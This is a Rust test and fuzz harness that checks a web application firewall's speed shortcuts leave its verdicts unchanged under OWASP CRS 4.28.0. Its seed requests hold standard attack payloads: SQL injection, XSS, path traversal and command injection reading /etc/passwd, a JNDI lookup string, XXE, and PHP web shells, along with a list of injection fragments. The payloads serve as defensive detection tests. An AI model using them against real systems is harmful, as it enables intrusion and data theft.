//! The engine's shortcuts change no answer, on any request. Folded steps, prescan gates,
//! verdicts remembered across requests and chains reordered exist for speed alone: one that
//! changes an answer lets an attack through or blocks a benign request. So every request gets
//! the same answer from CRS 4.28.0 compiled as usual and compiled without them
//! ([`RuleSet::without_shortcuts`]): the same interruption, verdict, scores and matches, in
//! the same order, with the same messages.
//!
//! CRS 4.28.0 goes in two set-ups: that of the CRS suites' harness
//! (`differential/harness-4.28.0.conf`: paranoia level 4, so that every rule runs, in
//! `DetectionOnly`, so that nothing stops a request early), and the reference engine settings
//! with CRS's own defaults (paranoia level 1, blocking: what `bench/waf.sh` runs, where most
//! rules are folded away and attacks are interrupted). The rule sets with shortcuts are shared
//! across requests, as in the gateway: each request is evaluated there twice, the second time
//! with what the first left in the memos.
//!
//! The first half of this file is also the body of the `shortcuts` fuzz target
//! (`fuzz/fuzz_targets/shortcuts.rs` includes it as a module): [`check`] reads any bytes as a
//! request ([`request`]) and compares the answers. The test below runs it over requests made
//! by recombining [`SEEDS`]. The CRS suites' requests get the same comparison in
//! `crs_regression.rs`.

use std::sync::OnceLock;

use barbican_waf::engine::{Request, Response};
use barbican_waf::seclang::Loader;
use barbican_waf::{Outcome, RuleSet, Transaction, Verdict};

#[path = "common/mod.rs"]
mod common;

/// The harness settings of the CRS suites (paranoia level 4, `DetectionOnly`).
const HARNESS: &str = include_str!("differential/harness-4.28.0.conf");

/// A set-up of CRS 4.28.0, compiled once with the shortcuts and once without.
pub struct Setup {
    /// What the set-up is, for messages.
    pub name: &'static str,
    /// Compiled as usual.
    pub with: RuleSet,
    /// Compiled without the shortcuts.
    pub without: RuleSet,
}

/// The two set-ups: the suites' harness, and paranoia level 1 blocking.
pub fn setups() -> &'static [Setup; 2] {
    static SETUPS: OnceLock<[Setup; 2]> = OnceLock::new();
    SETUPS.get_or_init(|| {
        let crs = common::crs_dir("rules");
        let base = crs.join(common::CRS_TAG);
        let setup = |name, harness: Option<&str>| {
            let mut loader = Loader::new();
            loader.load_file(&crs.join("../reference/modsecurity.conf"));
            loader.load_file(&base.join("crs-setup.conf.example"));
            if let Some(harness) = harness {
                loader.load_str(&base.join("harness.conf"), harness);
            }
            loader.load_file(&base.join("rules/*.conf"));
            let loaded = loader.finish().unwrap_or_else(|e| panic!("CRS 4.28.0 does not load: {e:?}"));
            Setup { name, with: RuleSet::compile(&loaded), without: RuleSet::compile(&loaded).without_shortcuts() }
        };
        [setup("paranoia 4, detection only", Some(HARNESS)), setup("paranoia 1, blocking", None)]
    })
}

/// Reads bytes as a request: a first line `METHOD TARGET [PROTOCOL]`, then header lines
/// `name: value` up to an empty line, then the body; lines end in LF or CRLF. Every input is
/// some request: a line without a colon is a header with no value, a missing method is `GET`,
/// a missing target `/`, a missing protocol `HTTP/1.1`.
pub fn request(data: &[u8]) -> Request {
    let (head, body) = match data.windows(2).position(|w| w == b"\n\n") {
        Some(at) => (&data[..at], &data[at + 2..]),
        None => match data.windows(4).position(|w| w == b"\r\n\r\n") {
            Some(at) => (&data[..at], &data[at + 4..]),
            None => (data, &[][..]),
        },
    };
    let mut lines = head.split(|&b| b == b'\n').map(|l| l.strip_suffix(b"\r").unwrap_or(l));
    let first = lines.next().unwrap_or_default();
    let mut words = first.splitn(3, |&b| b == b' ');
    let method = words.next().filter(|m| !m.is_empty()).unwrap_or(b"GET");
    let target = words.next().filter(|t| !t.is_empty()).unwrap_or(b"/");
    let protocol = words.next().filter(|p| !p.is_empty()).unwrap_or(b"HTTP/1.1");
    let mut req = Request::new(method, target).protocol(protocol).body(body);
    for line in lines {
        let (name, value) = match line.iter().position(|&b| b == b':') {
            Some(at) => (&line[..at], line[at + 1..].trim_ascii_start()),
            None => (line, &[][..]),
        };
        req = req.header(name, value);
    }
    req
}

/// What a request gets from a rule set: the backend reflects the body as HTML, so that the
/// response rules read it too.
fn answer(rs: &RuleSet, req: &Request) -> (Option<(u16, u64)>, Verdict, i64, i64, Vec<String>) {
    let mut tx = Transaction::new(rs);
    tx.process_request(req.clone());
    let interruption = tx.interruption();
    tx.process_response(Response::new(200).header("Content-Type", "text/html").body(req.body.clone()));
    let Outcome { verdict, inbound_anomaly_score, outbound_anomaly_score, matched } = tx.finish();
    let logged = matched.iter().map(|m| m.log_line()).collect();
    (interruption, verdict, inbound_anomaly_score, outbound_anomaly_score, logged)
}

/// Evaluates the request `data` reads as in each set-up, with the shortcuts (twice: fresh,
/// then with the memos it filled) and without, and panics when the answers differ. Returns
/// how many rules logged in each set-up.
pub fn check(data: &[u8]) -> [usize; 2] {
    let req = request(data);
    setups().each_ref().map(|Setup { name, with, without }| {
        let fresh = answer(with, &req);
        let expected = answer(without, &req);
        assert_eq!(fresh, expected, "{name}: the shortcuts changed the answer to {req:?}");
        assert_eq!(answer(with, &req), expected, "{name}: the memos changed the answer to {req:?}");
        expected.4.len()
    })
}

/// Requests with attacks in every place the shortcuts treat apart: query, path, headers,
/// cookies, bodies of every processor, long values, values that decode (`multiMatch`), and
/// benign ones.
pub const SEEDS: &[&str] = &[
    "GET /api/v1/users?page=2&name=alice\nHost: example.com\nUser-Agent: Mozilla/5.0\nAccept: */*",
    "GET /?q=1%27%20UNION%20SELECT%20password%20FROM%20users--\nHost: example.com\nUser-Agent: Mozilla/5.0",
    "GET /?x=%3Cscript%3Ealert(1)%3C/script%3E&y=..%2F..%2Fetc%2Fpasswd\nHost: example.com",
    "GET /\nHost: 10.0.0.1\nUser-Agent: sqlmap/1.7\nCookie: s=<img src=x onerror=alert(1)>; t=1",
    "GET /?cmd=;cat%20/etc/passwd\nHost: example.com\nReferer: http://x/?a=${jndi:ldap://e/a}",
    "GET /index.php/../../etc/shadow?a=%u0027&b=&#x3C;svg&#x3E;\nHost: example.com\nAccept: text/html",
    "GET /?n=cHJvY2Vzcy5tYWluTW9kdWxlLnJlcXVpcmUoJ2NoaWxkX3Byb2Nlc3MnKQ==\nHost: example.com",
    "OPTIONS * HTTP/1.0\nHost: example.com\nRange: bytes=0-1,2-3,4-5,6-7,8-9,10-11\nX-Forwarded-For: 1.2.3.4",
    "POST /api/orders\nHost: example.com\nContent-Type: application/json\n\n\
     {\"order\":{\"id\":\"ord-1\",\"note\":\"1' or '1'='1\",\"tags\":[\"a\",\"<script>\"]}}",
    "POST /login\nHost: example.com\nContent-Type: application/x-www-form-urlencoded\n\n\
     user=admin%27--&pass=x&redirect=http%3A%2F%2Fevil.example%2F&c=%3Csvg%20onload%3Dalert(1)%3E",
    "POST /upload\nHost: example.com\nContent-Type: multipart/form-data; boundary=b\n\n\
     --b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"x.php\"\r\n\r\n<?php system($_GET['c']); ?>\r\n--b--\r\n",
    "POST /soap\nHost: example.com\nContent-Type: text/xml\n\n\
     <?xml version=\"1.0\"?><a href=\"javascript:alert(1)\"><b>' OR 1=1 --</b><!ENTITY x SYSTEM \"file:///etc/passwd\"></a>",
    "POST /notes\nHost: example.com\nContent-Type: text/plain\n\n\
     lorem ipsum dolor sit amet lorem ipsum dolor sit amet <?php eval($_POST['x']); ?> com.opensymphony.xwork2",
    "PUT /files/a.txt\nHost: example.com\nContent-Type: application/json; charset=ibm037\nContent-Length: 3\n\n{}",
    "GET /search?q=%C0%AE%C0%AE%2F&r=%uff1cscript%uff1e&s=%252e%252e%252f\nHost: example.com\nAccept-Encoding: gzip",
    "POST /api\nHost: example.com\nContent-Type: application/json\n\n\
     {\"a\":{\"b\":[1,2,{\"c\":\"SELECT * FROM t WHERE x=1\"}]},\"eval(atob('x'))\":true,\"t\":\"\\u003cscript\\u003e\"}",
];

/// Pieces of requests the recombination splices in.
const PIECES: &[&str] = &[
    "\n",
    "\r\n",
    "\n\n",
    ": ",
    "&",
    "=",
    "?",
    "%",
    "%00",
    "%25",
    "%2e",
    "\\x",
    "'",
    "\"",
    "<",
    ">",
    "/*",
    "*/",
    "--",
    ";",
    "|",
    "`",
    "$(",
    "${",
    "../",
    "..\\",
    "union select",
    "<script>",
    "onerror=",
    "javascript:",
    "/etc/passwd",
    "cmd.exe",
    "eval(",
    "base64_decode(",
    "\nCookie: a=",
    "\nContent-Type: application/json\n\n{\"k\":\"",
    "\nContent-Type: application/x-www-form-urlencoded\n\na=",
    "\nContent-Length: 99999999",
    "\nHost: ",
    "\nUser-Agent: nikto",
    "\nX-Forwarded-For: ",
    "&#x27;",
    "&lt;",
    "\\u0027",
    "+",
    " ",
    "\t",
    "\u{feff}",
    "é",
    "\u{ff1c}",
];

/// Recombines a seed: some cuts, some pieces spliced in, some bytes of other seeds. `draw(n)`
/// picks a number below `n`.
fn mutate(draw: &mut impl FnMut(usize) -> usize, seed: &[u8]) -> Vec<u8> {
    let mut out = seed.to_vec();
    for _ in 0..1 + draw(5) {
        let at = draw(out.len() + 1);
        match draw(4) {
            0 => {
                let end = at + draw(out.len().min(at + 16) - at + 1);
                out.drain(at..end);
            }
            1 => {
                let other = SEEDS[draw(SEEDS.len())].as_bytes();
                let from = draw(other.len());
                let to = from + draw(other.len().min(from + 40) - from + 1);
                out.splice(at..at, other[from..to].iter().copied());
            }
            2 => out.insert(at, draw(256) as u8),
            _ => out.splice(at..at, PIECES[draw(PIECES.len())].bytes()).for_each(drop),
        }
    }
    out
}

#[test]
fn the_seeds_read_as_intended() {
    let json = request(SEEDS[8].as_bytes());
    assert_eq!((&json.method[..], &json.uri[..]), (&b"POST"[..], &b"/api/orders"[..]));
    assert_eq!(json.header_value("content-type"), Some(&b"application/json"[..]));
    assert!(json.body.starts_with(b"{\"order\""));
    let bare = request(b"");
    assert_eq!((&bare.method[..], &bare.uri[..], bare.headers.len()), (&b"GET"[..], &b"/"[..], 0));
    assert_eq!((&bare.protocol[..], &request(SEEDS[7].as_bytes()).protocol[..]), (&b"HTTP/1.1"[..], &b"HTTP/1.0"[..]));
    let crlf = request(b"GET /a\r\nNo-colon\r\nX: 1\r\n\r\nbody");
    assert_eq!(crlf.headers.len(), 2);
    assert_eq!((crlf.header_value("no-colon"), &crlf.body[..]), (Some(&b""[..]), &b"body"[..]));
}

/// The seeds, and 600 recombinations of them, get the same answers with and without the
/// shortcuts in both set-ups; the attacks among the seeds are seen (all at paranoia 4, nearly
/// all at 1), so the comparison is not of two empty answers.
#[test]
fn generated_requests_get_the_same_answers() {
    let logged: Vec<[usize; 2]> = SEEDS.iter().map(|s| check(s.as_bytes())).collect();
    assert_eq!(logged[0], [0, 0], "the benign GET logged rules");
    assert!(logged[1..].iter().all(|n| n[0] > 0), "an attack logged nothing at paranoia 4: {logged:?}");
    let seen = logged[1..].iter().filter(|n| n[1] > 0).count();
    assert!(seen >= 12, "only {seen} attacks logged anything at paranoia 1: {logged:?}");
    let mut rng = fastrand::Rng::with_seed(0x5407_c475);
    let mut draw = |n: usize| rng.usize(..n.max(1));
    for _ in 0..600 {
        let seed = SEEDS[draw(SEEDS.len())].as_bytes();
        check(&mutate(&mut draw, seed));
    }
}
